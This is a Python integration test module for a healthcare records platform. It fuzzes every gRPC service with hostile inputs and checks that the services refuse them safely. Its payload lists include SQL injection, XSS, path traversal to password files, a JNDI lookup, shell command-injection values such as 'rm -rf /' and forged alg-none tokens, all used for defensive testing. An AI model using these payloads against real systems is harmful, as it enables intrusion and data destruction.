"""Hostile input against the whole platform, on one stack for the module (identity, consent,
records, audit and anchoring on PostgreSQL, a Tansu broker of their own and Anvil).

- Every RPC of every service (found from the generated descriptors, so a new RPC is covered
  without touching this file) gets up to 50 requests that hypothesis builds from the request's
  descriptor: injection-shaped, empty, long, NUL-laden and non-Latin strings, extreme and
  negative numbers, unknown enum values, invalid UTF-8, JSON and FHIR, nested messages and lists,
  from an unauthenticated caller, a forged token, an admin, a patient, a practitioner, a privacy
  officer and an auditor. No call ends INTERNAL, UNKNOWN, DATA_LOSS or past its deadline, and a
  refused call changes none of the service's tables and queues no event but the denial trail.
- Injection-shaped strings are data: stored and returned unchanged, and matching nothing when
  used as a query.
- Oversize messages are RESOURCE_EXHAUSTED and store nothing.
- Malformed Kafka messages on every service topic land in `<topic>.dlq` from each consumer that
  dead-letters, and in the audit log as `unprocessable` entries; the consumers go on.
"""

from __future__ import annotations

import asyncio
import copy
import hashlib
import importlib
import json
import os
import random
import re
import sys
import time
import uuid
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from typing import Any

import grpc
import pytest
from aiokafka import AIOKafkaConsumer, AIOKafkaProducer, TopicPartition
from google.protobuf import any_pb2, message_factory
from google.protobuf.descriptor import Descriptor, EnumDescriptor, FieldDescriptor, ServiceDescriptor
from google.protobuf.message import Message
from grpc_health.v1 import health_pb2, health_pb2_grpc
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from medledger.audit.v1 import audit_service_pb2 as au_pb
from medledger.consent.v1 import consent_service_pb2 as co_pb
from medledger.events.v1 import (
    anchoring_events_pb2,
    audit_events_pb2,
    consent_events_pb2,
    identity_events_pb2,
    notification_events_pb2,
    records_events_pb2,
)
from medledger.identity.v1 import identity_service_pb2 as id_pb
from medledger.records.v1 import records_service_pb2 as rec_pb
from medledger.types.v1 import vocabulary_pb2 as vocab
from sqlalchemy import text

from medledger_devstack import synthetic
from medledger_devstack.testing import Anvil, Postgres
from medledger_runtime.events import TOPICS, Event, dlq_topic, new_event
from medledger_runtime.kafka_consumer import EventConsumer
from medledger_runtime.service import ServiceRuntime
from medledger_sdk.channels import make_channel

pytestmark = pytest.mark.timeout(180)

CODE = grpc.StatusCode
SERVICE_NAMES = ("identity", "consent", "records", "audit", "anchoring")
# What no request may cause, however hostile: a server fault, a hang, or a false alarm of tampering.
FORBIDDEN = {CODE.INTERNAL, CODE.UNKNOWN, CODE.DATA_LOSS, CODE.DEADLINE_EXCEEDED, CODE.UNAVAILABLE}
# At most 50 per RPC (fewer with MEDLEDGER_HOSTILE_EXAMPLES, e.g. for a quick local run).
EXAMPLES_PER_RPC = min(50, int(os.environ.get("MEDLEDGER_HOSTILE_EXAMPLES", "50")))
CALL_TIMEOUT = 20.0
OBS = vocab.DataCategory.DATA_CATEGORY_OBSERVATIONS
TREAT = vocab.PurposeOfUse.PURPOSE_OF_USE_TREAT
READ, WRITE = vocab.Action.ACTION_READ, vocab.Action.ACTION_WRITE
Kind = vocab.PrincipalKind
FHIR_JSON = "application/fhir+json"

# --- hostile values -----------------------------------------------------------------------------

INJECTIONS = (
    "'; DROP TABLE records; --",
    "Robert'); DROP TABLE principals;--",
    "' OR '1'='1",
    "pat_' OR 1=1 --",
    "1; SELECT pg_sleep(30); --",
    "%' UNION SELECT secret_hash FROM principals --",
    '{"$gt": ""}',
    '{"$where": "sleep(10000)"}',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow\x00.json",
    "${jndi:ldap://x.example/a}",
    "$(touch /tmp/pwned)",
    "`id`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "{{7*7}}${7*7}",
    "%s%s%s%n%x",
    "%00",
    "\x00",
    "a\x00b",
    "\r\nX-Injected: 1",
    "\u202egnp.exe",
    "=cmd|' /C calc'!A0",
    "\\",
    '"',
    "*",
    "%",
    "_",
    "null",
    "NaN",
    "-1",
    "1e309",
    "\ufeff",
    "\U0010ffff",
    "😀",
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
    " ",
    "\t\n",
)
# The ones a FHIR string may hold: FHIR's JSON format forbids code points below 32 but tab, CR
# and LF (json.html#primitive), and records refuses a resource with one (tested below).
FHIR_INJECTIONS = tuple(s for s in INJECTIONS if not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", s))
LONG_STRINGS = (
    "x" * 10_240,
    "é" * 5_000,
    "😀" * 2_600,
    ("'; DROP TABLE records; --" * 500)[:10_240],
    "\x00" * 10_240,
)
# Strings as protobuf carries them: any code point but surrogates.
any_text = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=40)
hostile_text = st.one_of(st.sampled_from(INJECTIONS), any_text, st.sampled_from(LONG_STRINGS), st.just(""))


def _nested(depth: int, opener: bytes, closer: bytes, inner: bytes = b"1") -> bytes:
    return opener * depth + inner + closer * depth


_rng = random.Random(1234)
BAD_BYTES = (
    b"",
    b"\xff\xfe\xfd",
    b"\xc3\x28",
    b"\xed\xa0\x80",  # a UTF-8-encoded surrogate
    b"{",
    b"}",
    b"null",
    b"[]",
    b"{}",
    b"1",
    b'"x"',
    b"\x00" * 100,
    b"\xef\xbb\xbf{}",
    b'{"a": NaN}',
    b'{"a": Infinity}',
    b'{"a": 1e99999}',
    b'{"a": ' + b"9" * 5_000 + b"}",
    b'{"a": 1, "a": 2}',
    _nested(100_000, b"[", b"]"),
    _nested(30_000, b'{"a":', b"}"),
    b'{"resourceType": "Patient"' + b', "x": 1' * 10_000 + b"}",
    b'{"resourceType": "Patient", "id": "\x00"}',
    b'{"resourceType": "Observation"}',
    b'{"resourceType": "' + b"'; DROP TABLE records; --" + b'"}',
    b'{"resourceType": "Patient", "contained": '
    + _nested(300, b'[{"resourceType": "Patient", "contained": ', b"}]", b"[]")
    + b"}",
    b'{"resourceType": {"$gt": ""}}',
    b'{"__proto__": {"admin": true}, "constructor": {"prototype": {"admin": true}}}',
    bytes(_rng.getrandbits(8) for _ in range(10_240)),
)


def _observation() -> dict[str, Any]:
    """The first Observation of the seeded synthetic patients."""
    return synthetic.population().first("Observation")


def injected_observation(strings: tuple[str, ...] = FHIR_INJECTIONS) -> dict[str, Any]:
    """A FHIR R4 Observation whose free-text fields hold injection-shaped strings (valid FHIR
    with the default strings)."""
    obs = copy.deepcopy(_observation())
    for key in [k for k in obs if k.startswith("value")]:
        del obs[key]
    obs["id"] = "hostile-1"
    obs["code"]["text"] = strings[0]
    obs["valueString"] = "\n".join(strings)
    obs["note"] = [{"text": s} for s in strings if s.strip() and "\x00" not in s]
    return obs


def injected_practitioner(strings: tuple[str, ...] = INJECTIONS) -> dict[str, Any]:
    return {
        "resourceType": "Practitioner",
        "identifier": [{"system": "urn:npi", "value": uuid.uuid4().hex}],
        "name": [{"family": strings[0], "given": [s for s in strings[1:8] if s.strip()], "text": strings[8]}],
    }


def injected_patient() -> dict[str, Any]:
    return {
        "resourceType": "Patient",
        "identifier": [{"system": "urn:oid:1.2.3", "value": "' OR 1=1 --" + uuid.uuid4().hex}],
        "name": [{"family": "<script>alert(1)</script>", "given": ["${jndi:ldap://x}", "'; DROP TABLE records; --"]}],
    }


def int_strategy(bits: int, signed: bool) -> st.SearchStrategy[int]:
    lo, hi = (-(2 ** (bits - 1)), 2 ** (bits - 1) - 1) if signed else (0, 2**bits - 1)
    edges = (0, 1, 2, 3, -1, 10, 100, 1000, 1001, 10_001, 2**31 - 1, 2**31, 2**32, 2**53 + 1, 2**63 - 1, 2**63)
    return st.one_of(st.sampled_from([v for v in (*edges, lo, hi, hi - 1) if lo <= v <= hi]), st.integers(lo, hi))


INTS: dict[int, st.SearchStrategy[int]] = {
    FieldDescriptor.TYPE_INT32: int_strategy(32, True),
    FieldDescriptor.TYPE_SINT32: int_strategy(32, True),
    FieldDescriptor.TYPE_SFIXED32: int_strategy(32, True),
    FieldDescriptor.TYPE_INT64: int_strategy(64, True),
    FieldDescriptor.TYPE_SINT64: int_strategy(64, True),
    FieldDescriptor.TYPE_SFIXED64: int_strategy(64, True),
    FieldDescriptor.TYPE_UINT32: int_strategy(32, False),
    FieldDescriptor.TYPE_FIXED32: int_strategy(32, False),
    FieldDescriptor.TYPE_UINT64: int_strategy(64, False),
    FieldDescriptor.TYPE_FIXED64: int_strategy(64, False),
}


def enum_strategy(enum: EnumDescriptor) -> st.SearchStrategy[int]:
    known = [v.number for v in enum.values]
    return st.one_of(
        st.sampled_from(known), st.sampled_from([-1, 99, 2**31 - 1, -(2**31)]), st.integers(-(2**31), 2**31 - 1)
    )


@dataclass
class Pools:
    """Realistic values for fields by name, so hostile requests also reach past the first check."""

    ids: list[str]
    # Ids of principals that call in the fuzz: kept out of RPCs that would disable them.
    callers: list[str]
    commitments: list[str]
    salts: list[str]
    tlog_proofs: list[str]
    entries: list[bytes]
    anchors: list[bytes]
    fhir: list[bytes]


AUDIENCES = [f"medledger.{s}" for s in SERVICE_NAMES]
MEDIA_TYPES = [FHIR_JSON, "application/pdf", "text/plain", "application/json", "application/fhir+xml", "*/*"]
# RPCs whose success would disable the fuzz's own callers: their id fields leave those out.
PROTECTED_RPCS = {"DeactivatePrincipal", "RevokeRole"}


def string_strategy(name: str, pools: Pools, method: str) -> st.SearchStrategy[str]:
    if name == "request_id":
        return st.one_of(st.uuids().map(str), hostile_text)
    if name.endswith("_id") or name == "grantee":
        ids = [i for i in pools.ids if i not in pools.callers] if method in PROTECTED_RPCS else pools.ids
        return st.one_of(st.sampled_from(ids), hostile_text)
    if name == "audience":
        return st.one_of(st.sampled_from(AUDIENCES), hostile_text)
    if name == "media_type":
        return st.one_of(st.sampled_from(MEDIA_TYPES), hostile_text)
    if name == "commitment":
        return st.one_of(st.sampled_from(pools.commitments), hostile_text)
    if name == "salt":
        return st.one_of(st.sampled_from(pools.salts), hostile_text)
    if name == "tlog_proof":
        return st.one_of(st.sampled_from(pools.tlog_proofs), hostile_text)
    return hostile_text


def bytes_strategy(name: str, pools: Pools) -> st.SearchStrategy[bytes]:
    specific: list[bytes] = []
    if name in ("entry",):
        specific = pools.entries
    elif name in ("anchor_json",):
        specific = pools.anchors
    elif name.startswith("fhir") or name in ("content", "record"):
        specific = pools.fhir
    choices = [st.sampled_from(BAD_BYTES), st.binary(max_size=64)]
    if specific:
        choices.insert(0, st.sampled_from(specific))
    return st.one_of(*choices)


def field_strategy(f: FieldDescriptor, pools: Pools, method: str, depth: int) -> st.SearchStrategy[Any] | None:
    t = f.type
    inner: st.SearchStrategy[Any]
    if t == FieldDescriptor.TYPE_MESSAGE:
        if f.message_type.GetOptions().map_entry:
            return None
        if depth >= 3:
            inner = st.just(message_factory.GetMessageClass(f.message_type)())
        else:
            inner = message_strategy(f.message_type, pools, method, depth + 1)
    elif t == FieldDescriptor.TYPE_STRING:
        inner = string_strategy(f.name, pools, method)
    elif t == FieldDescriptor.TYPE_BYTES:
        inner = bytes_strategy(f.name, pools)
    elif t == FieldDescriptor.TYPE_BOOL:
        inner = st.booleans()
    elif t == FieldDescriptor.TYPE_ENUM:
        inner = enum_strategy(f.enum_type)
    elif t in INTS:
        inner = INTS[t]
    elif t in (FieldDescriptor.TYPE_FLOAT, FieldDescriptor.TYPE_DOUBLE):
        inner = st.floats(width=32 if t == FieldDescriptor.TYPE_FLOAT else 64)
    else:  # groups: none in medledger's protos
        return None
    if f.is_repeated:
        return st.lists(inner, max_size=6)
    return inner


def message_strategy(desc: Descriptor, pools: Pools, method: str, depth: int = 0) -> st.SearchStrategy[Message]:
    """Messages of `desc` with any subset of their fields set to hostile values."""
    cls = message_factory.GetMessageClass(desc)
    optional = {}
    for f in desc.fields:
        strategy = field_strategy(f, pools, method, depth)
        if strategy is not None:
            optional[f.name] = strategy
    return st.fixed_dictionaries({}, optional=optional).map(lambda fields: cls(**fields))


# --- the stack and the people in it -------------------------------------------------------------


def services() -> list[tuple[str, ServiceDescriptor]]:
    """Every gRPC service of the platform, from the generated code."""
    found = []
    for name in SERVICE_NAMES:
        module = importlib.import_module(f"medledger.{name}.v1.{name}_service_pb2")
        found += [(name, desc) for desc in module.DESCRIPTOR.services_by_name.values()]
    return found


ALL_RPCS = [(name, desc.full_name, m.name) for name, desc in services() for m in desc.methods]


@dataclass
class Caller:
    name: str
    principal_id: str
    # A token client; None: no token (the public caller, or the forged-token caller).
    client: Any
    forged: bool = False


class World:
    """The stack, its callers and their channels (a plain class: hypothesis prints dataclasses whole)."""

    def __init__(self, stack: Any, callers: dict[str, Caller], pools: Pools, ids: dict[str, str]) -> None:
        self.stack, self.callers, self.pools, self.ids = stack, callers, pools, ids
        # Authorization headers no service may accept.
        self.forged_tokens: list[str] = []
        self._channels: dict[tuple[str, str], grpc.aio.Channel] = {}
        self._methods: dict[tuple[str, str, str], Any] = {}

    def __repr__(self) -> str:
        return "World(...)"

    def runtime(self, service: str) -> ServiceRuntime:
        runtime = getattr(self.stack, service)
        assert runtime is not None, f"{service} is not running"
        return runtime

    def address(self, service: str) -> str:
        return f"127.0.0.1:{self.runtime(service).grpc_port}"

    def channel(self, caller: str, service: str) -> grpc.aio.Channel:
        key = (caller, service)
        if key not in self._channels:
            c = self.callers[caller]
            if c.client is None:
                self._channels[key] = make_channel(self.address(service))
            else:
                self._channels[key] = c.client.channel(self.address(service), f"medledger.{service}")
        return self._channels[key]

    def rpc(self, caller: str, service: str, full_service: str, method: str) -> Any:
        key = (caller, full_service, method)
        if key not in self._methods:
            desc = self.stack_descriptor(full_service).methods_by_name[method]
            out_cls = message_factory.GetMessageClass(desc.output_type)
            self._methods[key] = self.channel(caller, service).unary_unary(
                f"/{full_service}/{method}",
                request_serializer=lambda m: m.SerializeToString(),
                response_deserializer=out_cls.FromString,
            )
        return self._methods[key]

    @staticmethod
    def stack_descriptor(full_service: str) -> ServiceDescriptor:
        return next(desc for _, desc in services() if desc.full_name == full_service)

    async def close(self) -> None:
        for channel in self._channels.values():
            await channel.close()


@pytest.fixture(scope="module")
async def stack(postgres: Postgres, anvil: Anvil, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Any]:
    """conftest's `start_stack`, once for the module: the same services, wired the same way."""
    conftest = sys.modules["tests.integration.conftest"]
    start = conftest.start_stack.__wrapped__(postgres, tmp_path_factory.mktemp("hostile"))
    async with start(records=True, audit=True, anchoring=True, chain_rpc_url=anvil.rpc_url) as running:
        yield running


def rid() -> str:
    return str(uuid.uuid4())


async def _register(admin: Any, kind: int, role: int | None = None, **fields: Any) -> id_pb.RegisterPrincipalResponse:
    reply = await admin.RegisterPrincipal(id_pb.RegisterPrincipalRequest(request_id=rid(), kind=kind, **fields))
    if role is not None:
        await admin.AssignRole(
            id_pb.AssignRoleRequest(request_id=rid(), principal_id=reply.principal.principal_id, role=role)
        )
    return reply


@pytest.fixture(scope="module")
async def world(stack: Any) -> AsyncIterator[World]:
    """A patient, a doctor with the patient's consent and a record to read, a privacy officer, an
    auditor, a second patient with a pending erasure and a legal hold, and a break-glass use."""
    from medledger.identity.v1.identity_service_pb2_grpc import IdentityServiceStub

    public = IdentityServiceStub(make_channel(stack.identity_address))
    admin_client = stack.admin()
    admin = IdentityServiceStub(admin_client.channel(stack.identity_address, "medledger.identity"))

    def practitioner() -> bytes:
        return json.dumps(
            {"resourceType": "Practitioner", "identifier": [{"system": "urn:npi", "value": uuid.uuid4().hex}]}
        ).encode()

    def patient() -> bytes:
        return json.dumps(
            {"resourceType": "Patient", "identifier": [{"system": "urn:oid:1.2.3", "value": uuid.uuid4().hex}]}
        ).encode()

    pat = await public.RegisterPatient(id_pb.RegisterPatientRequest(request_id=rid(), fhir_patient=patient()))
    victim = await public.RegisterPatient(id_pb.RegisterPatientRequest(request_id=rid(), fhir_patient=patient()))
    org = await _register(admin, Kind.PRINCIPAL_KIND_ORGANIZATION)
    org_id = org.principal.principal_id
    doctor = await _register(
        admin, Kind.PRINCIPAL_KIND_PRACTITIONER, organization_id=org_id, fhir_resource=practitioner()
    )
    bystander = await _register(
        admin, Kind.PRINCIPAL_KIND_PRACTITIONER, organization_id=org_id, fhir_resource=practitioner()
    )
    officer = await _register(
        admin,
        Kind.PRINCIPAL_KIND_PRACTITIONER,
        role=vocab.Role.ROLE_PRIVACY_OFFICER,
        organization_id=org_id,
        fhir_resource=practitioner(),
    )
    auditor = await _register(admin, Kind.PRINCIPAL_KIND_RESEARCHER, role=vocab.Role.ROLE_AUDITOR)
    ids = {
        "patient": pat.principal.principal_id,
        "victim": victim.principal.principal_id,
        "org": org_id,
        "doctor": doctor.principal.principal_id,
        "bystander": bystander.principal.principal_id,
        "officer": officer.principal.principal_id,
        "auditor": auditor.principal.principal_id,
        "admin": "svc_admin",
    }
    callers = {
        "public": Caller("public", "", None),
        "forged": Caller("forged", "", None, forged=True),
        "admin": Caller("admin", "svc_admin", admin_client),
        "patient": Caller("patient", ids["patient"], stack.client(ids["patient"], pat.client_secret)),
        "doctor": Caller("doctor", ids["doctor"], stack.client(ids["doctor"], doctor.client_secret)),
        "officer": Caller("officer", ids["officer"], stack.client(ids["officer"], officer.client_secret)),
        "auditor": Caller("auditor", ids["auditor"], stack.client(ids["auditor"], auditor.client_secret)),
    }
    victim_client = stack.client(ids["victim"], victim.client_secret)
    w = World(stack, callers, Pools([], [], [], [], [], [], [], []), ids)
    await stack.known_to_consent(*(ids[k] for k in ("patient", "victim", "org", "doctor", "bystander", "officer")))

    from medledger.audit.v1.audit_service_pb2_grpc import AuditServiceStub
    from medledger.consent.v1.consent_service_pb2_grpc import ConsentServiceStub
    from medledger.records.v1.records_service_pb2_grpc import RecordsServiceStub

    consent = {n: ConsentServiceStub(w.channel(n, "consent")) for n in ("admin", "patient", "doctor", "officer")}
    records = {n: RecordsServiceStub(w.channel(n, "records")) for n in ("admin", "patient", "doctor", "officer")}
    granted = await consent["patient"].GrantConsent(
        co_pb.GrantConsentRequest(
            request_id=rid(),
            patient_id=ids["patient"],
            grantee_id=ids["doctor"],
            provision=co_pb.ProvisionType.PROVISION_TYPE_PERMIT,
            actions=[READ, WRITE],
            categories=[OBS],
            purposes=[TREAT],
        )
    )
    stored = await records["patient"].PutRecord(
        rec_pb.PutRecordRequest(
            request_id=rid(),
            patient_id=ids["patient"],
            category=OBS,
            content=json.dumps(_observation()).encode(),
            media_type=FHIR_JSON,
        )
    )
    await consent["admin"].SetBreakGlassPolicy(
        co_pb.SetBreakGlassPolicyRequest(
            request_id=rid(), policy=co_pb.BreakGlassPolicy(organization_id=org_id, enabled=True, max_uses=1000)
        )
    )
    broken = await consent["doctor"].BreakGlass(
        co_pb.BreakGlassRequest(
            request_id=rid(),
            patient_id=ids["victim"],
            reason=co_pb.BreakGlassReason.BREAK_GLASS_REASON_LIFE_THREATENING,
            justification="Unconscious on arrival; allergies needed before surgery.",
        )
    )
    victim_records = RecordsServiceStub(victim_client.channel(w.address("records"), "medledger.records"))
    erasure = await victim_records.RequestErasure(
        rec_pb.RequestErasureRequest(request_id=rid(), patient_id=ids["victim"], reason="moving abroad")
    )
    hold = await records["officer"].PlaceLegalHold(
        rec_pb.PlaceLegalHoldRequest(request_id=rid(), patient_id=ids["victim"], reason="case 2024-17")
    )
    ids.update(
        record=stored.record_id,
        consent=granted.consent.consent_id,
        access=broken.access.access_id,
        erasure=erasure.erasure.erasure_id,
        hold=hold.legal_hold.hold_id,
        event=stored.receipt.event_id,
    )
    # A real tlog-proof and entry to mutate: the log's first entries are the registrations above.
    audit = AuditServiceStub(make_channel(w.address("audit")))
    checkpoint = await _eventually(lambda: _signed_size(audit), "a signed checkpoint", within=30)
    proof = (await audit.GetTlogProof(au_pb.GetTlogProofRequest(index=0, tree_size=checkpoint))).tlog_proof
    entries = await AuditServiceStub(w.channel("auditor", "audit")).ListEntries(au_pb.ListEntriesRequest(page_size=3))
    entry = entries.entries[0].entry
    anchor = {
        "chain_id": stack.deployment.chain_id,
        "contract_address": stack.deployment.anchor_registry,
        "tx_hash": "0x" + "ab" * 32,
        "block_number": 1,
        "origin": "medledger.local/audit",
        "tree_size": checkpoint,
        "root": "0x" + "00" * 32,
    }
    w.pools = Pools(
        ids=[
            *ids.values(),
            "pat_" + "0" * 32,
            "prn_" + "0" * 32,
            "rec_" + "0" * 32,
            "svc_records",
            "svc_admin",
            ids["patient"] + "'; --",
            ids["patient"].upper(),
            ids["patient"] + "\x00",
            " " + ids["patient"],
        ],
        callers=[c.principal_id for c in callers.values() if c.principal_id],
        commitments=[stored.receipt.commitment, stored.receipt.commitment.upper(), "0" * 64],
        salts=[stored.receipt.salt, stored.receipt.salt[:10], "zz" * 32],
        tlog_proofs=[
            proof,
            proof[: len(proof) // 2],
            proof.replace("index 0", "index 99999999999999999999999"),
            proof.replace("index 0", "index -1"),
            proof.replace("\n\n", "\n", 1),
            "c2sp.org/tlog-proof@v1\nextra !!!\nindex 0\n\n",
            "c2sp.org/tlog-proof@v1\nindex 0\n" + "A" * 10_000 + "\n\n" + proof.split("\n\n", 1)[-1],
        ],
        entries=[entry, entry[:-1], entry + b" ", b'{"v": 1, "type": "\x00"}'],
        anchors=[
            json.dumps(anchor).encode(),
            json.dumps({**anchor, "chain_id": "x"}).encode(),
            json.dumps({**anchor, "chain_id": 10**400}).encode(),
            json.dumps({**anchor, "tree_size": -1}).encode(),
            json.dumps({**anchor, "tree_size": 2**64}).encode(),
            json.dumps({**anchor, "root": "0xzz"}).encode(),
            json.dumps({**anchor, "root": None}).encode(),
            json.dumps({**anchor, "contract_address": "'; DROP TABLE anchors; --"}).encode(),
            json.dumps({**anchor, "consistency_proof": "not a list"}).encode(),
            json.dumps({**anchor, "consistency_proof": [1, None, {"a": 1}]}).encode(),
            json.dumps({**anchor, "block_number": 1e308}).encode(),
            json.dumps([anchor]).encode(),
        ],
        fhir=[
            json.dumps(_observation()).encode(),
            json.dumps(injected_observation()).encode(),
            json.dumps(injected_observation(INJECTIONS)).encode(),
            json.dumps(injected_practitioner()).encode(),
            json.dumps(injected_patient()).encode(),
            json.dumps(dict(_observation(), status=5)).encode(),
        ],
    )
    identity_token = (
        await public.IssueToken(
            id_pb.IssueTokenRequest(
                principal_id=ids["patient"], client_secret=pat.client_secret, audience="medledger.identity"
            )
        )
    ).access_token
    head, body, _sig = identity_token.split(".")
    w.forged_tokens = [
        "",
        "Bearer",
        "Bearer ",
        "Bearer x",
        "Bearer a.b.c",
        "Basic YWRtaW46YWRtaW4=",
        "bearer " + identity_token,
        "Bearer " + identity_token,  # a real token, for identity only
        "Bearer " + identity_token + "x",
        # alg none, and the same claims unsigned
        "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0." + body + ".",
        "Bearer " + head + "." + body + ".",
        "Bearer " + "A" * 8_000,
        "Bearer ' OR '1'='1",
        "Bearer ${jndi:ldap://x.example/a}",
    ]
    try:
        yield w
    finally:
        await w.close()


async def _signed_size(audit: Any) -> int:
    try:
        return int((await audit.GetLatestCheckpoint(au_pb.GetLatestCheckpointRequest())).tree_size)
    except grpc.aio.AioRpcError:
        return 0


async def _eventually(probe: Callable[[], Any], what: str, within: float = 20.0) -> Any:
    deadline = time.monotonic() + within
    while True:
        value = await probe()
        if value:
            return value
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        await asyncio.sleep(0.1)


# --- what a refused call must leave alone ---------------------------------------------------------

# Tables written by the services' own consumers and background work, not by their RPCs.
NOT_RPC_STATE = {
    "schema_migrations",
    "outbox",
    "outbox_watermarks",
    "inbox",
    "principal_directory",  # consent: identity's events
    # audit: the log grows with every event of every service
    "entries",
    "tiles",
    "side_lists",
    "checkpoints",
    "log_state",
    # anchoring: checkpoints from Kafka, anchors and consent writes by the sender
    "signed_checkpoints",
    "anchors",
    "consent_writes",
}
# Events services emit on their own, whatever the calls do.
BACKGROUND_EVENTS = {
    "audit": {audit_events_pb2.CheckpointSigned.DESCRIPTOR.full_name},
    "anchoring": {
        anchoring_events_pb2.CheckpointAnchored.DESCRIPTOR.full_name,
        anchoring_events_pb2.ConsentCommitmentRecorded.DESCRIPTOR.full_name,
    },
}
# The trail a refused read leaves on purpose: who was refused what.
DENIAL_EVENTS = {"records": {records_events_pb2.RecordAccessDenied.DESCRIPTOR.full_name}}


@dataclass(frozen=True)
class Snapshot:
    tables: dict[str, str]
    outbox_max: int
    redactions: int


async def snapshot(runtime: ServiceRuntime) -> Snapshot:
    """A digest of every table the service's RPCs write, the outbox's last row, and (audit) how
    many entries were redacted."""
    async with runtime.db.connect() as conn:
        names = [
            r[0]
            for r in await conn.execute(text("SELECT tablename FROM pg_tables WHERE schemaname = current_schema()"))
            if r[0] not in NOT_RPC_STATE
        ]
        tables = {}
        if names:
            union = " UNION ALL ".join(
                f"SELECT '{n}', md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) FROM \"{n}\" AS t"  # noqa: S608 (names from pg_tables)
                for n in sorted(names)
            )
            tables = {r[0]: r[1] for r in await conn.execute(text(union))}
        outbox_max = (await conn.execute(text("SELECT coalesce(max(id), 0) FROM outbox"))).scalar_one()
        redactions = 0
        if runtime.name == "audit":
            redactions = (
                await conn.execute(text("SELECT count(*) FROM entries WHERE entry IS NULL OR type = 'entry.redacted'"))
            ).scalar_one()
    return Snapshot(tables, int(outbox_max), int(redactions))


async def new_event_types(runtime: ServiceRuntime, after: int) -> list[str]:
    from medledger_runtime.events import decode

    async with runtime.db.connect() as conn:
        rows = await conn.execute(text("SELECT value FROM outbox WHERE id > :after ORDER BY id"), {"after": after})
        return [decode(bytes(r[0])).type for r in rows]


async def assert_unchanged(runtime: ServiceRuntime, before: Snapshot, code: grpc.StatusCode, what: str) -> Snapshot:
    """Check that a refused call left the service's state as `before`; returns the state now."""
    after = await snapshot(runtime)
    changed = [n for n in before.tables if before.tables[n] != after.tables.get(n)]
    assert not changed, f"{what} ended {code.name} but changed {changed}"
    assert after.redactions == before.redactions, f"{what} ended {code.name} but redacted an entry"
    if after.outbox_max != before.outbox_max:
        allowed = BACKGROUND_EVENTS.get(runtime.name, set())
        if code == CODE.PERMISSION_DENIED:
            allowed = allowed | DENIAL_EVENTS.get(runtime.name, set())
        queued = await new_event_types(runtime, before.outbox_max)
        assert set(queued) <= allowed, f"{what} ended {code.name} but queued {queued}"
    return after


async def status_and_details(call: Any) -> tuple[grpc.StatusCode, str]:
    try:
        await call
    except grpc.aio.AioRpcError as exc:
        return exc.code(), exc.details() or ""
    return CODE.OK, ""


# --- injection-shaped strings are data ----------------------------------------------------------


async def test_injection_shaped_strings_are_stored_and_returned_as_plain_data(world: World) -> None:
    from medledger.audit.v1.audit_service_pb2_grpc import AuditServiceStub
    from medledger.consent.v1.consent_service_pb2_grpc import ConsentServiceStub
    from medledger.identity.v1.identity_service_pb2_grpc import IdentityServiceStub
    from medledger.records.v1.records_service_pb2_grpc import RecordsServiceStub

    ids = world.ids
    # A FHIR Observation whose code.text, valueString and notes are injection strings: stored,
    # and returned byte for byte, to the patient and to the doctor the patient consented to.
    content = json.dumps(injected_observation(), ensure_ascii=False).encode()
    patient_records = RecordsServiceStub(world.channel("patient", "records"))
    put = await patient_records.PutRecord(
        rec_pb.PutRecordRequest(
            request_id=rid(), patient_id=ids["patient"], category=OBS, content=content, media_type=FHIR_JSON
        )
    )
    own = await patient_records.GetRecord(rec_pb.GetRecordRequest(record_id=put.record_id))
    assert own.content == content
    read = await RecordsServiceStub(world.channel("doctor", "records")).GetRecord(
        rec_pb.GetRecordRequest(record_id=put.record_id, purpose=TREAT)
    )
    assert read.content == content and json.loads(read.content)["valueString"] == "\n".join(FHIR_INJECTIONS)

    # A practitioner named with them, read back with the FHIR resource.
    admin_identity = IdentityServiceStub(world.channel("admin", "identity"))
    resource = injected_practitioner()
    registered = await admin_identity.RegisterPrincipal(
        id_pb.RegisterPrincipalRequest(
            request_id=rid(),
            kind=Kind.PRINCIPAL_KIND_PRACTITIONER,
            organization_id=ids["org"],
            fhir_resource=json.dumps(resource, ensure_ascii=False).encode(),
        )
    )
    got = await admin_identity.GetPrincipal(
        id_pb.GetPrincipalRequest(principal_id=registered.principal.principal_id, include_fhir_resource=True)
    )
    assert json.loads(got.fhir_resource) == resource

    # A break-glass justification made of them, read back by the organization's privacy officer.
    # (Consent trims the whitespace around a justification: these strings sit inside one.)
    justification = "[" + " | ".join(s for s in INJECTIONS if "\x00" not in s)[:1990] + "]"
    broken = await ConsentServiceStub(world.channel("doctor", "consent")).BreakGlass(
        co_pb.BreakGlassRequest(
            request_id=rid(),
            patient_id=ids["patient"],
            reason=co_pb.BreakGlassReason.BREAK_GLASS_REASON_OTHER_EMERGENCY,
            justification=justification,
        )
    )
    seen = await ConsentServiceStub(world.channel("officer", "consent")).GetBreakGlassAccess(
        co_pb.GetBreakGlassAccessRequest(access_id=broken.access.access_id)
    )
    assert seen.justification == justification
    expected = hashlib.sha256(b"medledger:break-glass-justification:v1\n" + justification.encode()).hexdigest()
    assert seen.access.justification_sha256 == expected

    # A legal hold's matter, returned as given.
    matter = "'; DROP TABLE legal_holds; -- <script>alert(1)</script> ${jndi:ldap://x} ../../etc/passwd"
    hold = await RecordsServiceStub(world.channel("officer", "records")).PlaceLegalHold(
        rec_pb.PlaceLegalHoldRequest(request_id=rid(), patient_id=ids["victim"], reason=matter)
    )
    assert hold.legal_hold.reason == matter

    # Used as a query, they match nothing (and every table they name is still there).
    for probe in ("' OR '1'='1", "%", "*", '{"$gt": ""}', ids["patient"] + "' OR '1'='1"):
        entries = await AuditServiceStub(world.channel("auditor", "audit")).ListEntries(
            au_pb.ListEntriesRequest(record_id=probe)
        )
        assert not entries.entries, probe
        listed = await admin_identity.ListPrincipals(id_pb.ListPrincipalsRequest(organization_id=probe))
